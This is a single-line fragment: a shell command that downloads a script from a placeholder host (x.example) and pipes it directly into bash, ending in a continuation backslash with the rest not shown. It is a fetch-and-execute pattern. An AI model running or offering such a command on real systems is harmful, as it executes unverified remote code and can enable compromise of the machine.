curl https://x.example/i | bash \
